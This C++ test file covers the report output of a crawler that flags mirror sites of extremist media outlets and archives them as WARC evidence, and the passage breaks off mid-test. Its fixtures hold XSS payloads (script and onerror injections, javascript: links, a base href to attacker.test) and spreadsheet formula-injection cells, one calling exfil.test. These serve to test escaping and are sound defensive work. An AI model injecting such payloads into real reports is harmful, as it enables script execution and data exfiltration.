#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "crawler/report_command.h"
#include "crawler/store.h"
#include "crawler/warc.h"
#include "tests/crawler/node_tools.h"
#include "tests/crawler/temp_dir.h"

namespace mw {
namespace {

namespace fs = std::filesystem;
using Json = nlohmann::json;
using std::chrono::system_clock;
using testing::NodeCheckMissing;
using testing::RunNode;

constexpr char kCase[] = "REF-2026-0417";
constexpr char kSignaturesSha256[] =
    "5f1c0e2d9a7b4c3e8f6a1b2c3d4e5f60718293a4b5c6d7e8f90112233445566";
constexpr char kCsp[] =
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; "
    "style-src 'unsafe-inline'; img-src data:\">";

// Markup a crawled page might smuggle into a report. Each would set window.__pwned (or
// navigate, or hide the rest of the page) if it ever became markup.
const std::vector<std::string> kPayloads = {
    "<script>window.__pwned=1</script>",
    "\"><img src=x onerror=window.__pwned=1>",
    "'><svg onload=window.__pwned=1>",
    "</textarea></title></style></code><script>window.__pwned=1</script>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<a href=\"javascript:window.__pwned=1\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.__pwned=1\">",
    "<base href=\"https://attacker.test/\">",
    "<!--",
};

std::string AllPayloads() {
  std::string all;
  for (const std::string& payload : kPayloads) all += payload;
  return all;
}

system_clock::time_point At(int day, int hour, int minute) {
  return std::chrono::sys_days{std::chrono::year{2026} / 11 / day} + std::chrono::hours{hour} +
         std::chrono::minutes{minute};
}

std::string ReadFile(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

std::string Sha256Hex(std::string_view bytes) {
  unsigned char digest[EVP_MAX_MD_SIZE];
  unsigned int length = 0;
  EVP_Digest(bytes.data(), bytes.size(), digest, &length, EVP_sha256(), nullptr);
  std::string hex;
  char two[3];
  for (unsigned int i = 0; i < length; ++i) {
    std::snprintf(two, sizeof two, "%02x", digest[i]);
    hex += two;
  }
  return hex;
}

WarcRef ToStoreRef(const WarcRecordRef& ref) {
  return WarcRef{ref.file, static_cast<std::int64_t>(ref.offset),
                 static_cast<std::int64_t>(ref.length), ref.record_id, ref.payload_sha256};
}

// RFC 4180, as a spreadsheet reads it: quoted fields hold commas, quotes ("") and line breaks.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        rows.back().back() += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        rows.back().back() += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().emplace_back();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.emplace_back(1);
      ++i;
    } else {
      rows.back().back() += c;
    }
  }
  if (rows.back() == std::vector<std::string>(1)) rows.pop_back();
  return rows;
}

// The start tags of `html` as an HTML tokenizer reads them (the contents of <style> are
// skipped; the report has no script and no comment of its own).
struct StartTag {
  std::string name;
  std::vector<std::pair<std::string, std::string>> attributes;
};

std::vector<StartTag> StartTags(const std::string& html) {
  std::vector<StartTag> tags;
  auto is_space = [](char c) { return c == ' ' || c == '\t' || c == '\n' || c == '\r'; };
  for (std::size_t i = html.find('<'); i != std::string::npos; i = html.find('<', i)) {
    ++i;
    if (i >= html.size() || !std::isalpha(static_cast<unsigned char>(html[i]))) continue;
    StartTag tag;
    while (i < html.size() && !is_space(html[i]) && html[i] != '>' && html[i] != '/') {
      tag.name += static_cast<char>(std::tolower(static_cast<unsigned char>(html[i++])));
    }
    while (i < html.size() && html[i] != '>') {
      if (is_space(html[i]) || html[i] == '/') {
        ++i;
        continue;
      }
      std::string name, value;
      while (i < html.size() && !is_space(html[i]) && html[i] != '=' && html[i] != '>') {
        name += static_cast<char>(std::tolower(static_cast<unsigned char>(html[i++])));
      }
      if (i < html.size() && html[i] == '=') {
        ++i;
        const char quote = html[i];
        if (quote == '"' || quote == '\'') {
          const std::size_t end = html.find(quote, i + 1);
          if (end == std::string::npos) return tags;
          value = html.substr(i + 1, end - i - 1);
          i = end + 1;
        } else {
          while (i < html.size() && !is_space(html[i]) && html[i] != '>') value += html[i++];
        }
      }
      tag.attributes.emplace_back(name, value);
    }
    if (tag.name == "style") i = html.find("</style>", i);
    tags.push_back(std::move(tag));
  }
  return tags;
}

// --- node: the browser check (open-report.mjs) and the independent WARC reader (verify.mjs) ---

// The JSON object open-report.mjs prints last.
Json BrowserVerdict(const std::string& output) {
  const std::size_t start = output.rfind("\n{");
  return Json::parse(output.substr(start == std::string::npos ? 0 : start + 1), nullptr, false);
}

// --- the store: a crawl, a resumed crawl and two re-checks, with WARC evidence -------------

class ReportTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = testing::FreshTestDir();
    std::string error;
    store_ = Store::Open((dir_ / "crawl.db").string(), &error);
    ASSERT_NE(store_, nullptr) << error;
  }
  void TearDown() override {
    writer_.reset();
    store_.reset();
    if (!HasFailure()) fs::remove_all(dir_);  // kept for a look when a test fails
  }

  // A run as `mirrorwatch crawl` or `recheck` records it, writing WARC files from `start`.
  std::int64_t BeginRun(const std::string& command, system_clock::time_point start,
                        const std::string& hostname = "crawler-01.test") {
    RunRecord run;
    run.command = command;
    run.case_ref = kCase;
    run.version = MW_VERSION;
    run.config_json = R"({"max_depth":3,"robots":"obey"})";
    run.signatures_path = "signatures/rules/outlets.yaml";
    run.signatures_sha256 = kSignaturesSha256;
    run.hostname = hostname;
    run.started_at = Timestamp(start);
    const std::int64_t id = store_->BeginRun(run);
    WarcOptions options;
    options.clock = [start] { return start; };
    options.warcinfo = {{"hostname", hostname}, {"case", kCase}};
    std::string error;
    writer_ = WarcWriter::Open((dir_ / "warc").string(), options, &error);
    EXPECT_NE(writer_, nullptr) << error;
    store_->AddWarcFile(id, writer_->files().back(), writer_->warcinfo_ids().back());
    return id;
  }

  static std::string Timestamp(system_clock::time_point when) {
    const std::time_t seconds = system_clock::to_time_t(when);
    std::tm t{};
    gmtime_r(&seconds, &t);
    char text[40];
    std::strftime(text, sizeof text, "%Y-%m-%dT%H:%M:%S.000Z", &t);
    return text;
  }

  struct Hit {
    std::string outlet;
    double score;
    Json rules;
  };

  // A flagged page: its exchange and one metadata record per finding in the WARC file, its
  // page and findings in the store. `stored_url` (when given) is what the store holds as
  // url and final_url: a hostile one that the WARC writer would refuse as a target URI.
  WarcRecordRef Flag(std::int64_t url_id, const std::string& url, const std::string& host,
                     system_clock::time_point when, const std::vector<Hit>& hits,
                     const std::string& stored_url = "") {
    const std::string body =
        "<!doctype html><html><head><meta charset=utf-8><title>" + host +
        "</title></head><body><p>Weather today: mild, light wind.</p></body></html>";
    WarcExchange exchange;
    exchange.target_uri = url;
    exchange.ip = "192.0.2.10";
    exchange.request = "GET " + url.substr(url.find('/', 8)) + " HTTP/1.1\r\nHost: " + host +
                       "\r\nUser-Agent: mirrorwatch/" MW_VERSION "\r\n\r\n";
    exchange.response = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n" +
                        std::string("Content-Length: ") + std::to_string(body.size()) + "\r\n\r\n" +
                        body;
    exchange.fetched_at = when;
    const WarcRecordRef response = writer_->WriteExchange(exchange);
    EXPECT_TRUE(response.ok()) << response.error;
    const std::string shown = stored_url.empty() ? url : stored_url;
    PageRecord page{url_id, shown, host, Timestamp(when), 200, "", ToStoreRef(response), ""};
    page.json = Json{{"url", shown}, {"status", 200}, {"fetched_at", page.fetched_at}}.dump();
    store_->RecordPage(page);
    for (const Hit& hit : hits) {
      const Json line = {{"url", shown},
                         {"final_url", shown},
                         {"host", host},
                         {"outlet", hit.outlet},
                         {"score", hit.score},
                         {"threshold", 5.0},
                         {"signatures_sha256", kSignaturesSha256},
                         {"rules", hit.rules},
                         {"status", 200},
                         {"fetched_at", Timestamp(when)},
                         {"sha256", Sha256Hex(body)},
                         {"ip", "192.0.2.10"},
                         {"depth", 2},
                         {"via", "https://seed.test/links.html"}};
      const WarcRecordRef metadata = writer_->WriteMetadata(url, response.record_id, line.dump());
      EXPECT_TRUE(metadata.ok()) << metadata.error;
      metadata_ids_[host].push_back(metadata.record_id);
      store_->RecordFinding(FindingRecord{url_id, shown, shown, host, hit.outlet, hit.score,
                                          Timestamp(when), Sha256Hex(body), ToStoreRef(response),
                                          ToStoreRef(metadata), line.dump(), "", ""});
    }
    response_ids_[host].push_back(response.record_id);
    return response;
  }

  static Json Rule(const std::string& id, const std::string& field, double weight,
                   const std::string& snippet, const std::string& match) {
    return {{"id", id},      {"field", field},        {"weight", weight},
            {"count", 1},    {"experimental", false}, {"snippet", snippet},
            {"match", match}};
  }

  void Check(std::int64_t run, const std::string& host, const std::string& url,
             system_clock::time_point when, long status, const std::string& error_kind,
             const std::string& outcome, const std::string& detail_json) {
    CheckRecord check;
    check.run_id = run;
    check.host = host;
    check.url = url;
    check.checked_at = Timestamp(when);
    check.status = status;
    check.error_kind = error_kind;
    check.outcome = outcome;
    check.detail_json = detail_json;
    store_->RecordCheck(check);
  }

  // Three mirror hosts found from one seed: amaq (two pages, one found after a resume; gone
  // after two re-checks), al-bayan and halumu on one radio page (still live), nashir (never
  // re-checked). Page text is branding names and neutral filler only.
  void BuildStore() {
    const std::int64_t crawl = BeginRun("crawl", At(20, 7, 58));
    store_->Seen(1, "https://seed.test/", "seed.test", 0);
    store_->Seen(2, "https://seed.test/links.html", "seed.test", 1);
    store_->Seen(3, "https://amaq-mirror.test/", "amaq-mirror.test", 2);
    store_->Seen(4, "https://amaq-mirror.test/news/1", "amaq-mirror.test", 3);
    store_->Seen(5, "https://radio-bayan.test/live", "radio-bayan.test", 2);
    store_->Seen(6, "https://nashir-feed.test/", "nashir-feed.test", 5);
    amaq_response_ =
        Flag(3, "https://amaq-mirror.test/", "amaq-mirror.test", At(20, 8, 0),
             {{"amaq", 9.5,
               Json::array({Rule("amaq.logo-alt", "img_alt", 4,
                                 "شعار وكالة أعماق الإخبارية - أحوال الطقس", "وكالة أعماق"),
                            Rule("amaq.title", "title", 5.5, "Amaq News Agency - weather today",
                                 "Amaq News Agency")})}});
    Flag(5, "https://radio-bayan.test/live", "radio-bayan.test", At(20, 8, 10),
         {{"al-bayan", 8,
           Json::array(
               {Rule("bayan.name", "text", 8, "البث المباشر - إذاعة البيان", "إذاعة البيان")})},
          {"halumu", 6,
           Json::array({Rule("halumu.name", "text", 6, "Halumu - contact page", "Halumu")})}});
    Flag(6, "https://nashir-feed.test/", "nashir-feed.test", At(20, 8, 20),
         {{"nashir", 6.5,
           Json::array(
               {Rule("nashir.name", "title", 6.5, "قناة ناشر - الصفحة الرئيسية", "NASHIR")})}});
    store_->RecordHost(
        {"amaq-mirror.test", Timestamp(At(20, 8, 0)), "192.0.2.10", "nginx/1.24.0 (\"edge\", eu)",
         R"({"subject":"CN=amaq-mirror.test","issuer":"CN=Test CA, O=Example",)"
         R"("sans":["amaq-mirror.test","www.amaq-mirror.test"],)"
         R"("sha256":"9c4e6f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6",)"
         R"("not_before":"2026-10-01T00:00:00Z","not_after":"2026-12-30T00:00:00Z"})"});
    store_->RecordHost(
        {"radio-bayan.test", Timestamp(At(20, 8, 10)), "198.51.100.7", "Apache", ""});
    store_->RecordHost({"nashir-feed.test", Timestamp(At(20, 8, 20)), "203.0.113.5", "", ""});
    store_->RecordLink("amaq-mirror.test", 2);
    store_->RecordLink("radio-bayan.test", 2);
    store_->RecordLink("nashir-feed.test", 5);
    store_->EndRun(crawl, Timestamp(At(20, 8, 1)), R"({"flagged_pages":3})");

    // Resumed: the second amaq page lands in a WARC file of its own.
    const std::int64_t resume = BeginRun("crawl --resume", At(20, 8, 2));
    Flag(4, "https://amaq-mirror.test/news/1", "amaq-mirror.test", At(20, 8, 3),
         {{"amaq", 7,
           Json::array({Rule("amaq.title", "title", 7, "Amaq News Agency - page 1",
                             "Amaq News Agency")})}});
    store_->RecordHost({"amaq-mirror.test", Timestamp(At(20, 8, 3)), "192.0.2.11",
                        "nginx/1.24.0 (\"edge\", eu)", ""});
    store_->EndRun(resume, Timestamp(At(20, 8, 30)), R"({"flagged_pages":1})");

    for (const system_clock::time_point when : {At(22, 10, 30), At(22, 16, 30)}) {
      const std::int64_t recheck = BeginRun("recheck", when - std::chrono::minutes{1});
      Check(recheck, "amaq-mirror.test", "https://amaq-mirror.test/", when, 404, "", "gone",
            R"({"status":404})");
      Check(recheck, "amaq-mirror.test", "https://amaq-mirror.test/news/1", when, 0, "dns", "gone",
            R"({"error":"could not resolve host"})");
      Check(recheck, "radio-bayan.test", "https://radio-bayan.test/live", when, 200, "", "live",
            R"({"outlets":{"al-bayan":8}})");
      store_->SetHostStatusFromChecks("amaq-mirror.test", recheck, 2, Timestamp(when));
      store_->SetHostStatusFromChecks("radio-bayan.test", recheck, 2, Timestamp(when));
      store_->EndRun(recheck, Timestamp(when + std::chrono::minutes{1}), "{}");
    }
    std::string error;
    ASSERT_TRUE(store_->Commit(&error)) << error;
    ASSERT_TRUE(writer_->Flush(&error)) << error;
  }

  // Two more hosts. xss.test carries kPayloads in every field a page or a server controls;
  // formula.test has a cell starting with each character a spreadsheet takes for a formula.
  void AddHostileHosts() {
    const std::string all = AllPayloads();
    const std::int64_t run = BeginRun("crawl", At(21, 9, 0), "crawler" + all);
    store_->Seen(20, "javascript:window.__pwned=1//" + all, "xss.test", 0);
    store_->Seen(21, "https://xss.test/?q=" + all, "xss.test", 20);
    Flag(21, "https://xss.test/", "xss.test", At(21, 9, 1),
         {{"nashir", 7,
           Json::array(
               {Rule("nashir.title" + all, "title" + all, 7, "before " + all + " after", all),
                Rule("nashir.alt", "img_alt", 1, "snippet " + all, "not in the snippet " + all)})}},
         "https://xss.test/?q=" + all);
    store_->RecordHost({"xss.test", Timestamp(At(21, 9, 1)), "192.0.2.66", "Server " + all,
                        Json{{"subject", "CN=" + all},
                             {"issuer", "O=" + all},
                             {"sans", {"xss.test", all}},
                             {"sha256", all},
                             {"not_before", all},
                             {"not_after", all}}
                            .dump()});
    store_->Seen(22, "javascript:window.__pwned=2//" + all, "elsewhere.test", 0);
    store_->RecordLink("xss.test", 22);
    Check(run, "xss.test", "javascript:window.__pwned=1//" + all, At(21, 9, 30), 0, "dns" + all,
          "gone" + all, Json{{"error", all}}.dump());

    store_->Seen(30, "\tseed", "formula.test", 0);
    store_->Seen(31, "\rlinked", "elsewhere.test", 0);
    store_->Seen(32, "https://formula.test/", "formula.test", 30);
    Flag(32, "https://formula.test/", "formula.test", At(21, 9, 2),
         {{"halumu", 6, Json::array({Rule("halumu.name", "text", 6, "Halumu", "Halumu")})}});
    store_->RecordHost(
        {"formula.test", Timestamp(At(21, 9, 2)), "192.0.2.67",
         "=HYPERLINK(\"http://exfil.test/?\"&A1,\"open\")",
         R"json({"subject":"+SUM(1,2)","issuer":"-2+3","sans":[],"sha256":"@NOW()"})json"});
    store_->RecordLink("formula.test", 31);
    store_->EndRun(run, Timestamp(At(21, 9, 40)), "{}");
    std::string error;
    ASSERT_TRUE(store_->Commit(&error)) << error;
    ASSERT_TRUE(writer_->Flush(&error)) << error;
  }

  // Runs `mirrorwatch report ARGS`; *out and *err get what it printed.
  int Report(std::vector<std::string> args, std::string* out = nullptr,
             std::string* err = nullptr) {
    args.insert(args.begin(), dir_.string());
    std::ostringstream out_stream, err_stream;
    const int status = RunReportCommand(args, out_stream, err_stream);
    if (out != nullptr) *out = out_stream.str();
    if (err != nullptr) *err = err_stream.str();
    return status;
  }

  fs::path dir_;
  std::unique_ptr<Store> store_;
  std::unique_ptr<WarcWriter> writer_;
  WarcRecordRef amaq_response_;
  std::map<std::string, std::vector<std::string>> response_ids_;  // by host
  std::map<std::string, std::vector<std::string>> metadata_ids_;
};

// --- jsonl ---------------------------------------------------------------------------------

TEST_F(ReportTest, JsonlHasTheWholeVerdictOfEachFlaggedHost) {
  BuildStore();
  std::string out, err;
  ASSERT_EQ(Report({"--format", "jsonl"}, &out, &err), 0) << err;
  std::map<std::string, Json> hosts;
  std::istringstream lines(out);
  for (std::string line; std::getline(lines, line);) {
    const Json verdict = Json::parse(line);
    hosts[verdict["host"].get<std::string>()] = verdict;
  }
  ASSERT_EQ(hosts.size(), 3u) << out;

  const Json& amaq = hosts["amaq-mirror.test"];
  EXPECT_EQ(amaq["outlets"], Json::array({"amaq"}));
  EXPECT_EQ(amaq["flagged_pages"], 2);
  EXPECT_EQ(amaq["best_score"], 9.5);
  EXPECT_EQ(amaq["first_seen"], "2026-11-20T08:00:00.000Z");
  EXPECT_EQ(amaq["last_seen"], "2026-11-20T08:03:00.000Z");
  EXPECT_EQ(amaq["ips"], Json::array({"192.0.2.10", "192.0.2.11"}));
  EXPECT_EQ(amaq["server"], "nginx/1.24.0 (\"edge\", eu)");
  EXPECT_EQ(amaq["cert"]["subject"], "CN=amaq-mirror.test");
  EXPECT_EQ(amaq["discovery_path"],
            Json::array({"https://seed.test/", "https://seed.test/links.html",
                         "https://amaq-mirror.test/"}));
  EXPECT_EQ(amaq["linked_from"], Json::array({"https://seed.test/links.html"}));
  // Gone: two re-checks in a row found every URL gone; the first of them is when it went.
  EXPECT_EQ(amaq["status"]["status"], "gone");
  EXPECT_EQ(amaq["status"]["gone_at"], "2026-11-22T10:30:00.000Z");
  EXPECT_EQ(amaq["first_flag_to_gone_seconds"], 2 * 86400 + 2 * 3600 + 30 * 60);
  ASSERT_EQ(amaq["checks"].size(), 4u);
  EXPECT_EQ(amaq["checks"][1]["error_kind"], "dns");
  EXPECT_EQ(amaq["checks"][1]["detail"]["error"], "could not resolve host");

  ASSERT_EQ(amaq["evidence"].size(), 2u);
  const Json& best = amaq["evidence"][0];
  EXPECT_EQ(best["url"], "https://amaq-mirror.test/");
  EXPECT_EQ(best["threshold"], 5.0);
  EXPECT_EQ(best["warc"], Json({{"file", amaq_response_.file},
                                {"offset", amaq_response_.offset},
                                {"length", amaq_response_.length},
                                {"record_id", amaq_response_.record_id},
                                {"sha256", amaq_response_.payload_sha256}}));
  EXPECT_EQ(best["metadata"]["record_id"], metadata_ids_["amaq-mirror.test"][0]);
  EXPECT_EQ(best["rules"][0]["match"], "وكالة أعماق");
  EXPECT_NE(amaq["evidence"][1]["warc"]["file"], best["warc"]["file"]) << "written after resume";

  const Json& bayan = hosts["radio-bayan.test"];
  EXPECT_EQ(bayan["outlets"], Json::array({"al-bayan", "halumu"}));
  EXPECT_EQ(bayan["status"]["status"], "live");
  EXPECT_TRUE(bayan["first_flag_to_gone_seconds"].is_null());
  EXPECT_TRUE(bayan["cert"].is_null()) << "plain HTTP";
  EXPECT_EQ(hosts["nashir-feed.test"]["status"]["status"], "flagged");
  EXPECT_EQ(hosts["nashir-feed.test"]["checks"], Json::array());
}

TEST_F(ReportTest, OutWritesTheReportToAFileAndNothingToStdout) {
  BuildStore();
  std::string to_stdout, out, err;
  ASSERT_EQ(Report({"--format", "jsonl"}, &to_stdout), 0);
  const fs::path file = dir_ / "verdicts.jsonl";
  ASSERT_EQ(Report({"--format", "jsonl", "--out", file.string()}, &out, &err), 0) << err;
  EXPECT_EQ(out, "");
  EXPECT_EQ(ReadFile(file), to_stdout);
}

// --- csv -----------------------------------------------------------------------------------

TEST_F(ReportTest, CsvQuotesFieldsAndDefusesFormulas) {
  BuildStore();
  AddHostileHosts();
  std::string out, err;
  ASSERT_EQ(Report({"--format", "csv"}, &out, &err), 0) << err;
  EXPECT_NE(out.find("\r\n"), std::string::npos) << "RFC 4180 ends records with CRLF";
  const std::vector<std::vector<std::string>> rows = ParseCsv(out);
  ASSERT_EQ(rows.size(), 6u) << out;  // the header and five hosts
  std::map<std::string, std::map<std::string, std::string>> by_host;
  for (std::size_t r = 1; r < rows.size(); ++r) {
    ASSERT_EQ(rows[r].size(), rows[0].size()) << "row " << r;
    for (std::size_t c = 0; c < rows[0].size(); ++c) by_host[rows[r][0]][rows[0][c]] = rows[r][c];
  }
  const auto& amaq = by_host["amaq-mirror.test"];
  EXPECT_EQ(amaq.at("server"), "nginx/1.24.0 (\"edge\", eu)") << "quotes and comma survive";
  EXPECT_EQ(amaq.at("status"), "gone");
  EXPECT_EQ(amaq.at("first_flag_to_gone_seconds"), "181800");
  EXPECT_EQ(amaq.at("warc_record_id"), amaq_response_.record_id);
  EXPECT_EQ(amaq.at("best_rules"), "amaq.logo-alt amaq.title");
  EXPECT_EQ(by_host["radio-bayan.test"].at("outlets"), "al-bayan halumu");

  // Each character that starts a formula (= + - @ TAB CR) gets an apostrophe in front.
  const auto& formula = by_host["formula.test"];
  const struct {
    const char* column;
    std::string cell;
  } cases[] = {
      {"server", "'=HYPERLINK(\"http://exfil.test/?\"&A1,\"open\")"},
      {"cert_subject", "'+SUM(1,2)"},
      {"cert_issuer", "'-2+3"},
      {"cert_sha256", "'@NOW()"},
      {"discovery_seed", "'\tseed"},
      {"linked_from", "'\rlinked"},
  };
  for (const auto& c : cases) EXPECT_EQ(formula.at(c.column), c.cell) << c.column;
}

// --- html ----------------------------------------------------------------------------------

TEST_F(ReportTest, HtmlIsOneSelfContainedPageGroupedByOutlet) {
  BuildStore();
  std::string html, err;
  ASSERT_EQ(Report({}, &html, &err), 0) << err;  // html is the default
  EXPECT_EQ(html.rfind("<!DOCTYPE html>", 0), 0u);
  EXPECT_NE(html.find("<meta charset=\"utf-8\">"), std::string::npos);
  EXPECT_NE(html.find(kCsp), std::string::npos);
  for (const char* external : {"<script", "<link", "src=", "url(", "@import"}) {
    EXPECT_EQ(html.find(external), std::string::npos) << external;
  }
  // The audit record of every run.
  for (const char* text : {kCase, kSignaturesSha256, "crawler-01.test", "crawl --resume",
                           "2026-11-20T07:58:00.000Z", "2026-11-22T16:31:00.000Z"}) {
    EXPECT_NE(html.find(text), std::string::npos) << text;
  }
  // Grouped by outlet, in order; radio-bayan.test under both of its outlets.
  const std::size_t bayan = html.find("<h3>al-bayan"), amaq = html.find("<h3>amaq"),
                    halumu = html.find("<h3>halumu"), nashir = html.find("<h3>nashir");
  ASSERT_NE(nashir, std::string::npos);
  EXPECT_TRUE(bayan < amaq && amaq < halumu && halumu < nashir);
  EXPECT_NE(html.find("href=\"#host-radio-bayan.test\"", halumu), std::string::npos);
  EXPECT_NE(html.find("<section class=\"host\" id=\"host-amaq-mirror.test\">"), std::string::npos);
  // Evidence: the match highlighted in its snippet, in the snippet's own direction.
  EXPECT_NE(html.find("<span class=\"snippet\" dir=\"auto\">شعار <mark>وكالة أعماق</mark> "
                      "الإخبارية - أحوال الطقس</span>"),
            std::string::npos);
  EXPECT_NE(html.find("</span><br><span class=\"note\">match:</span> <mark dir=\"auto\">NASHIR"),
            std::string::npos)
      << "a match that is not in its snippet is shown on its own";
  for (const std::string& text :
       {"&lt;" + amaq_response_.record_id.substr(1, 45) + "&gt;", amaq_response_.file,
        amaq_response_.payload_sha256,
        std::string("Time from first flag to gone</dt><dd>2d 2h 30m"),
        std::string("CN=amaq-mirror.test"), std::string("www.amaq-mirror.test"),
        std::string("could not resolve host"), std::string("192.0.2.11")}) {
    EXPECT_NE(html.find(text), std::string::npos) << text;
  }
}

TEST_F(ReportTest, HtmlEscapesEveryPageSourcedField) {
  BuildStore();
  AddHostileHosts();
  std::string html, err;
  ASSERT_EQ(Report({"--format", "html"}, &html, &err), 0) << err;
  for (const std::string& payload : kPayloads) {
    EXPECT_EQ(html.find(payload), std::string::npos) << "unescaped: " << payload;
  }
  EXPECT_NE(html.find("&lt;script&gt;window.__pwned=1&lt;/script&gt;"), std::string::npos);
  EXPECT_NE(html.find("&quot;&gt;&lt;img src=x onerror=window.__pwned=1&gt;"), std::string::npos);
  EXPECT_NE(html.find("<mark>&lt;script&gt;"), std::string::npos) << "a hostile match is marked";
  // Parse level: every tag and attribute is one the renderer writes, every link is http(s) or
  // a fragment, and the URLs that are not (javascript:) are shown as text.
  const std::set<std::string> tags = {
      "html", "head", "meta",    "title", "style", "body",  "header", "h1", "h2",   "h3", "h4",
      "p",    "main", "section", "table", "thead", "tbody", "tr",     "th", "td",   "a",  "span",
      "code", "br",   "dl",      "dt",    "dd",    "ol",    "ul",     "li", "mark", "div"};
  const std::set<std::string> attributes = {"lang",  "charset", "http-equiv", "content", "name",
                                            "class", "id",      "href",       "dir",     "rel"};
  int links = 0;
  for (const StartTag& tag : StartTags(html)) {
    EXPECT_TRUE(tags.count(tag.name)) << "<" << tag.name << ">";
    for (const auto& [name, value] : tag.attributes) {
      EXPECT_TRUE(attributes.count(name)) << "<" << tag.name << " " << name << "=" << value;
      if (name == "href") {
        ++links;
        EXPECT_TRUE(value.rfind("https://", 0) == 0 || value.rfind("http://", 0) == 0 ||
                    value.rfind("#", 0) == 0)
            << value;
      }
    }
  }
  EXPECT_GT(links, 10);
  EXPECT_NE(html.find("<span class=\"url\" dir=\"ltr\">javascript:window.__pwned=1//&lt;script"),
            std::string::npos);
}

TEST_F(ReportTest, ChromiumRunsNothingInTheReports) {
  if (const std::string missing = NodeCheckMissing("playwright-core", /*needs_chromium=*/true); !missing.empty()) {
    GTEST_SKIP() << missing;
  }
  BuildStore();
  const fs::path plain = dir_ / "report.html";
  ASSERT_EQ(Report({"--out", plain.string()}), 0);
  AddHostileHosts();
  const fs::path hostile = dir_ / "hostile.html";
  ASSERT_EQ(Report({"--out", hostile.string()}), 0);

  // MW_REPORT_SCREENSHOT=PATH saves the picture in docs/reports.md.
  std::vector<std::string> plain_args = {plain.string()};
  if (const char* png = std::getenv("MW_REPORT_SCREENSHOT")) {
    plain_args.insert(plain_args.end(), {"--screenshot", png, "--height", "2030"});
  }
  const struct {
    std::vector<std::string> args;
    int host_sections;
    const char* why;
  } cases[] = {
      {plain_args, 3, "the report as written"},
      {{hostile.string()}, 5, "every payload, with the CSP"},
      {{hostile.string(), "--strip-csp"}, 5, "every payload, escaping alone"},
  };
  for (const auto& c : cases) {
    std::string output;
    const int status = RunNode("open-report.mjs", c.args, dir_ / "browser.log", &output);
    std::printf("%s: %s", c.why, output.c_str());
    EXPECT_EQ(status, 0) << c.why << ": " << output;
    const Json verdict = BrowserVerdict(output);
    ASSERT_TRUE(verdict.is_object()) << output;
    EXPECT_EQ(verdict["ok"], true) << c.why;
    EXPECT_EQ(verdict["pwned"], false) << c.why;
    EXPECT_EQ(verdict["scripts"], 0) << c.why;
    EXPECT_EQ(verdict["requests"], Json::array()) << c.why;
    EXPECT_EQ(verdict["host_sections"], c.host_sections) << c.why << ": the page is all there";
    EXPECT_GT(verdict["marks"].get<int>(), 3) << c.why;
  }
}

// --- the referral pack ---------------------------------------------------------------------

TEST_F(ReportTest, ReferralPackHoldsTheHostsVerifiedEvidence) {
  BuildStore();
  const fs::path pack = dir_ / "pack";
  std::string out, err;
  ASSERT_EQ(Report({"--referral", "amaq-mirror.test", "--out", pack.string()}, &out, &err), 0)
      << err;
  std::set<std::string> names;
  for (const auto& entry : fs::directory_iterator(pack)) names.insert(entry.path().filename());
  EXPECT_EQ(names, (std::set<std::string>{"evidence.warc.gz", "manifest-sha256.txt", "report.html",
                                          "summary.json"}));

  // The manifest: `sha256  name` for every other file, as sha256sum -c reads it.
  std::istringstream manifest(ReadFile(pack / "manifest-sha256.txt"));
  std::set<std::string> listed;
  for (std::string line; std::getline(manifest, line);) {
    const std::string name = line.substr(66);
    EXPECT_EQ(line.substr(64, 2), "  ");
    EXPECT_EQ(line.substr(0, 64), Sha256Hex(ReadFile(pack / name))) << name;
    listed.insert(name);
  }
  EXPECT_EQ(listed, (std::set<std::string>{"evidence.warc.gz", "report.html", "summary.json"}));
  EXPECT_EQ(std::system(("cd '" + pack.string() +
                         "' && sha256sum --quiet -c "
                         "manifest-sha256.txt > /dev/null 2>&1")
                            .c_str()),
            0);

  // summary.json: the verdict, the audit records, and where each copied record came from.
  const Json summary = Json::parse(ReadFile(pack / "summary.json"));
  EXPECT_EQ(summary["pack"]["host"], "amaq-mirror.test");
  EXPECT_FALSE(summary["pack"]["created_at"].get<std::string>().empty());
  EXPECT_EQ(summary["verdict"]["host"], "amaq-mirror.test");
  EXPECT_EQ(summary["verdict"]["status"]["status"], "gone");
  ASSERT_EQ(summary["runs"].size(), 4u);
  EXPECT_EQ(summary["runs"][0]["case"], kCase);
  const std::string warc = ReadFile(pack / "evidence.warc.gz");
  std::map<std::string, int> types;
  std::set<std::string> ids;
  Json refs = Json::array();
  for (const Json& record : summary["evidence_records"]) {
    ++types[record["type"].get<std::string>()];
    ids.insert(record["record_id"].get<std::string>());
    // Byte for byte the gzip member in the crawl's file.
    const std::string source = ReadFile(dir_ / "warc" / record["source_file"].get<std::string>());
    const auto length = record["length"].get<std::size_t>();
    const auto source_offset = record["source_offset"].get<std::size_t>();
    EXPECT_EQ(warc.substr(record["pack_offset"].get<std::size_t>(), length),
              source.substr(source_offset, length))
        << record.dump();
    EXPECT_EQ(record["member_sha256"], Sha256Hex(source.substr(source_offset, length)));
    refs.push_back({{"file", "evidence.warc.gz"},
                    {"offset", record["pack_offset"]},
                    {"length", length},
                    {"record_id", record["record_id"]},
                    {"type", record["type"]}});
  }
  // Two files (the crawl and the resumed crawl): each one's warcinfo, then its request,
  // response and metadata.
  EXPECT_EQ(types, (std::map<std::string, int>{
